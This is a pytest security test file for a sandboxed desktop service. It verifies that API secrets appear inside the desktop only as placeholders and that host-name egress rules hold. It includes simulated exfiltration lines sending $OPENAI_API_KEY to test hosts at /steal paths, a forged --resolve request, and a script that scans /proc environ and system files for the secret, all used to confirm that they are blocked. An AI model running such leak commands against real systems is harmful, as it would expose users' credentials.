"""Secrets that never enter a desktop, and egress rules by host name (issue #22, point 4).

"The internet" is a network namespace this test makes (`netns.py`), where an HTTPS API
answers for *.cubicle.test with a certificate from the test's own CA (`api_server.py`);
the service runs in a namespace of its own and trusts that CA for the proxy's connections
out (`CUBICLE_EGRESS_CA_FILE`), as an operator would a company CA. The desktop reaches the
names through `"hosts"` at create. Nothing is probed outside this machine.
"""

from __future__ import annotations

import asyncio
import json
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from cubicle.client.sdk import AsyncServiceClient
from cubicle.protocol.service import SecretInfo
from cubicle.server import certs
from cubicle.server.launcher import ServiceProcess
from tests.security.attack import create, probe, run, still_answering
from tests.security.netns import WORLD_ADDRESSES, Namespaces, NetnsThread, Via, service_inside

pytestmark = pytest.mark.root_only
API = WORLD_ADDRESSES["internet"]
OTHER = WORLD_ADDRESSES["denied_by_operator"]
VALUE = "sk-test-" + os.urandom(12).hex()
"""The secret: it must reach the API, and nothing inside a desktop."""
HOSTS = {"api.cubicle.test": API, "other.cubicle.test": API, "elsewhere.cubicle.test": API}


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Iterator[tuple[Namespaces, Path, Path]]:
    """The namespaces, the API server in W, its log and the CA that signed it."""
    files = tmp_path_factory.mktemp("api")
    ca_cert, ca_key = certs.new_ca("cubicle test CA")
    cert, key = certs.issue(ca_cert, ca_key, ["*.cubicle.test", "cubicle.test"])
    (files / "ca.pem").write_bytes(certs.pem(ca_cert))
    (files / "cert.pem").write_bytes(certs.pem(cert))
    certs.write_private(files / "key.pem", certs.key_bytes(key))
    log = files / "requests.jsonl"
    with Namespaces(f"s{os.getpid()}") as spaces:
        server = spaces.run_in(
            spaces.w, [str(Path(__file__).with_name("api_server.py")), *_paths(files), str(log)]
        )
        deadline = time.monotonic() + 10
        while not (log.exists() and "ready" in log.read_text()):
            assert server.poll() is None and time.monotonic() < deadline, "no API server"
            time.sleep(0.05)
        try:
            yield spaces, log, files / "ca.pem"
        finally:
            server.kill()
            server.wait()


def _paths(files: Path) -> list[str]:
    return [str(files / "cert.pem"), str(files / "key.pem")]


@pytest.fixture(scope="module")
def api_parts(world) -> Iterator[tuple[ServiceProcess, NetnsThread, Via]]:
    spaces, _log, ca = world
    thread = NetnsThread(spaces.t)
    env = {"CUBICLE_EGRESS_CA_FILE": str(ca)}
    try:
        with service_inside(spaces.t, thread, env) as (service, client):
            yield service, thread, Via(thread, client)
    finally:
        thread.close()


@pytest.fixture(scope="module")
def api(api_parts) -> Via:
    return api_parts[2]


def _arrived(log: Path) -> list[dict]:
    return [json.loads(line) for line in log.read_text().splitlines() if '"ready"' not in line]


def _curl(api: Via, desktop_id: str, url: str, *options: str) -> dict:
    line = " ".join(["curl", "-sS", "--max-time", "20", *options, url])
    return run(api, desktop_id, line, timeout_s=40)


def test_a_secret_reaches_its_host_and_never_the_desktop(world, api, api_parts):
    _spaces, log, _ca = world
    service, thread, _ = api_parts

    async def make() -> SecretInfo:  # the SDK, as a user would
        async with AsyncServiceClient(base_url=service.url, token=service.token) as client:
            return await client.create_secret(
                "openai", VALUE, ["api.cubicle.test"], env="OPENAI_API_KEY"
            )

    info = thread.call(lambda: asyncio.run(make()))
    assert info.placeholder == "cubicle-secret:openai" and info.env == "OPENAI_API_KEY"
    made = api.get("/api/secrets/openai")
    assert VALUE not in made.text and made.json()["placeholder"] == "cubicle-secret:openai"
    assert VALUE not in api.get("/api/secrets").text
    assert (
        api.post(
            "/api/secrets", json={"name": "openai", "value": "x", "hosts": ["a.b"]}
        ).status_code
        == 409
    )
    desktop = create(api, network=True, secrets=["openai"], hosts=HOSTS)
    did = desktop["id"]

    # inside: only the placeholder
    assert run(api, did, "echo $OPENAI_API_KEY")["stdout"] == "cubicle-secret:openai\n"
    # the request carries the placeholder; the API gets the value
    sent = _curl(
        api,
        did,
        "https://api.cubicle.test/v1/models",
        "-H",
        '"Authorization: Bearer $OPENAI_API_KEY"',
    )
    assert sent["exit_code"] == 0 and sent["stdout"].startswith("ok GET /v1/models"), sent
    # Python's own client, with no header: the proxy sets it
    script = "import urllib.request as u; print(u.urlopen('https://api.cubicle.test/py').read().decode())"
    python = run(api, did, f'python3 -c "{script}"', timeout_s=40)
    assert python["exit_code"] == 0 and "ok GET /py auth=True" in python["stdout"], python
    # the desktop's Chromium, trusting the proxy's CA from its NSS database (headless and
    # without the session's DevTools port, so that it exits once it printed the page)
    # A profile of its own: a Chromium already running on the default one would take the
    # URL and this one would exit at once, printing nothing. (The CA is in ~/.pki/nssdb.)
    chromium = (
        "CUBICLE_CHROMIUM_FLAGS= chromium --headless=new --dump-dom --user-data-dir=$(mktemp -d)"
    )
    # its log kept aside and shown only if the page is not there (the assertion prints it)
    dump = (
        f"{chromium} https://api.cubicle.test/chromium 2>/tmp/chromium.log; "
        "status=$?; tail -c 2000 /tmp/chromium.log >&2; exit $status"
    )
    page = run(api, did, dump, timeout_s=90)
    assert "ok GET /chromium auth=True" in page["stdout"], page
    arrived = {entry["path"]: entry for entry in _arrived(log)}
    assert arrived["/v1/models"]["headers"]["authorization"] == f"Bearer {VALUE}"
    assert arrived["/v1/models"]["host"] == "api.cubicle.test" and arrived["/v1/models"]["tls"]
    assert arrived["/py"]["headers"]["authorization"] == f"Bearer {VALUE}"

    # the placeholder to another host: refused there, and recorded
    before = len(_arrived(log))
    leak = _curl(api, did, "https://other.cubicle.test/steal", "-H", '"X-Key: $OPENAI_API_KEY"')
    assert "refused by Cubicle's egress proxy" in leak["stdout"], leak
    plain = _curl(api, did, "http://elsewhere.cubicle.test/steal?k=$OPENAI_API_KEY")
    assert "refused by Cubicle's egress proxy" in plain["stdout"], plain
    assert len(_arrived(log)) == before  # neither reached the server
    # a request to another host without the placeholder goes, without the value
    other = _curl(api, did, "https://other.cubicle.test/fine")
    assert other["stdout"].startswith("ok GET /fine auth=False"), other
    refused = api.get(f"/api/desktops/{did}/network").json()["refused"]
    assert [r["host"] for r in refused[-2:]] == ["other.cubicle.test", "elsewhere.cubicle.test"]
    assert all("openai" in r["reason"] for r in refused[-2:])

    # nowhere inside: environment of every process, files, the command's own view
    search = (
        "import glob, os, sys\n"
        f"needle = {VALUE[:10]!r} + {VALUE[10:]!r}\n"
        "hits = []\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try: data = open(path, 'rb').read()\n"
        "    except OSError: continue\n"
        "    if needle.encode() in data and str(os.getpid()) not in path: hits.append(path)\n"
        "for root in ('/home', '/tmp', '/var/tmp', '/run', '/etc'):\n"
        "    for folder, _, names in os.walk(root):\n"
        "        for name in names:\n"
        "            try: data = open(os.path.join(folder, name), 'rb').read(1 << 22)\n"
        "            except OSError: continue\n"
        "            if needle.encode() in data: hits.append(os.path.join(folder, name))\n"
        "print(hits)\n"
    )
    uploaded = api.put(
        f"/api/desktops/{did}/files", params={"path": "~/.find.py"}, content=search.encode()
    )
    assert uploaded.status_code == 200
    found = run(api, did, "python3 ~/.find.py", timeout_s=60)
    assert found["stdout"].strip() == "[]", found
    assert (
        VALUE
        not in run(api, did, "env; cat /etc/ssl/certs/ca-certificates.crt | tail -3")["stdout"]
    )
    still_answering(api, did)
    api.delete(f"/api/desktops/{did}")


def test_rules_by_host_name_judge_each_connection(world, api):
    _spaces, log, ca = world
    desktop = create(api, network=True, hosts=HOSTS, egress={"allow": ["api.cubicle.test"]})
    did = desktop["id"]
    assert desktop["egress"]["allow"] == ["api.cubicle.test"]
    uploaded = api.put(
        f"/api/desktops/{did}/files", params={"path": "~/ca.pem"}, content=ca.read_bytes()
    )
    assert uploaded.status_code == 200
    tls = ("--cacert", "~/ca.pem")
    # the allowed name, over TLS passed through untouched (the desktop checks the server)
    ok = _curl(api, did, "https://api.cubicle.test/allowed", *tls)
    assert ok["exit_code"] == 0 and ok["stdout"].startswith("ok GET /allowed"), ok
    # another name on the same address: closed over TLS, 403 over plain HTTP
    other = _curl(api, did, "https://other.cubicle.test/no", *tls)
    assert other["exit_code"] != 0, other
    plain = _curl(api, did, "http://other.cubicle.test/no")
    assert "refused by Cubicle's egress proxy" in plain["stdout"], plain
    # a forged name: SNI says api.cubicle.test, the address is another; the proxy goes
    # where the name really is
    forged = _curl(
        api,
        did,
        "https://api.cubicle.test/forged",
        *tls,
        "--resolve",
        f"api.cubicle.test:443:{OTHER}",
    )
    assert forged["exit_code"] == 0, forged
    assert {e["path"]: e["arrived_at"] for e in _arrived(log)}["/forged"] == API
    # other ports: only what the allowlist's CIDRs name (none)
    port = probe(api, did, "connect", f"{API}:47123", timeout_s=60)
    assert port[f"{API}:47123"] != "connected", port
    # the rules change while it runs
    changed = api.put(
        f"/api/desktops/{did}/network",
        json={"allow": ["*.cubicle.test"], "deny": ["other.cubicle.test"]},
    )
    assert changed.status_code == 200, changed.text
    assert _curl(api, did, "https://elsewhere.cubicle.test/now", *tls)["exit_code"] == 0
    assert _curl(api, did, "https://other.cubicle.test/still-not", *tls)["exit_code"] != 0
    reasons = [r["reason"] for r in api.get(f"/api/desktops/{did}/network").json()["refused"]]
    assert any("denied by the desktop's egress rules" in r for r in reasons), reasons
    # bad asks: unknown secret, secrets without a network, a runtime without a proxy
    assert api.post("/api/desktops", json={"network": True, "secrets": ["nope"]}).status_code == 422
    assert api.post("/api/desktops", json={"secrets": ["openai"]}).status_code == 422
    microvm = api.post(
        "/api/desktops", json={"network": True, "runtime": "microvm", "secrets": ["openai"]}
    )
    assert microvm.status_code == 422 and microvm.json()["error"] == "not_supported"
    still_answering(api, did)
    api.delete(f"/api/desktops/{did}")
